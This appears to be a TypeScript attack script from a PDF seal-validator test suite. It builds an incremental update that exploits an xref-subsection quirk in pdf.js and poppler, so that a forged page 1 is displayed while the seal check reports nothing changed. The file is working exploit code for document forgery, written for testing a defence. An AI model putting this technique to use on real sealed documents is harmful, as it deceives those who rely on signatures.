// a22: pdf.js's and poppler's table quirk for "issue 3248/7229" and "IBM patents": a subsection `1 n` whose first
// row is free is read as starting at object 0 (pdf.js: any free first row; poppler: `0000000000 65535 f`), so each
// row names the object one below the one it names for sealcheck (and qpdf, PDFium, PDFBox?).
// One table update: the catalog re-stated at a new number (trailer /Root), object 1 freed (`0000000000 65535 f`),
// objects 2..5 listed again at their sealed offsets (sealcheck: nothing changed), and, unlisted, page 1 re-defined
// with a header the unlisted scan misses (a22 H1: `00000000004 0 obj`, its new content stream the same way).
// pdf.js and poppler read object 2 (/Pages) at object 3's offset: pdf.js XRefParseException and poppler's fetch
// failure rebuild the table by scanning, where the last definition of 4 wins.
// modes: plain (the same with `4 0 obj` headers: the unlisted scan's own form), zeros, noshift (object 1 listed at
// its sealed offset instead of freed: no reader shifts; the control for the quirk), honest (no unlisted definitions).
//   npx tsx scripts/attack-s17/table-shift.ts <honest|noshift|plain|zeros>   REAL=0 for samples/valid
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "zeros";
if (!["honest", "noshift", "plain", "zeros"].includes(mode)) throw new Error("usage: <honest|noshift|plain|zeros>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const alloc = new NumberAllocator(doc);
const [B, R] = [alloc.take(), alloc.take()];
const rootRef = rawGet(view.trailer, "Root");
if (rootRef?.kind !== "ref" || rootRef.num !== 1) throw new Error("the catalog is not object 1");
const sealed = new Map(doc.revisions.at(-1)!.entries.map((e) => [e.num, e]));
const offsetOf = (n: number) => {
  const e = sealed.get(n);
  if (e?.type !== "offset") throw new Error(`object ${n} is not at an offset`);
  return e.offset;
};
const head = (n: number) => (mode === "zeros" ? `${String(n).padStart(11, "0")} 0 obj` : `${n} 0 obj`);
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
if (mode !== "honest") {
  push([...latin(`${head(B)}\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
  push(latin(`${head(page.ref!.num)}\n${forgedPage}\nendobj\n`));
}
const offR = at;
push(latin(`${R} 0 obj\n${serialize(view.object(rootRef)!.value)}\nendobj\n`));
const offX = at;
const row = (o: number, g: number, t: string) => `${String(o).padStart(10, "0")} ${String(g).padStart(5, "0")} ${t}\r\n`;
const first = mode === "noshift" ? row(offsetOf(1), 0, "n") : row(0, 65535, "f");
const carried = ["Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
push(
  latin(
    `xref\n1 5\n${first}${[2, 3, 4, 5].map((n) => row(offsetOf(n), 0, "n")).join("")}${R} 1\n${row(offR, 0, "n")}` +
      `trailer\n<< /Size ${R + 1} /Root ${mode === "noshift" ? "1" : R} 0 R ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${offX}\n%%EOF\n`,
  ),
);
const file = save(work(`s17-shift-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`table-shift ${mode}`, file);
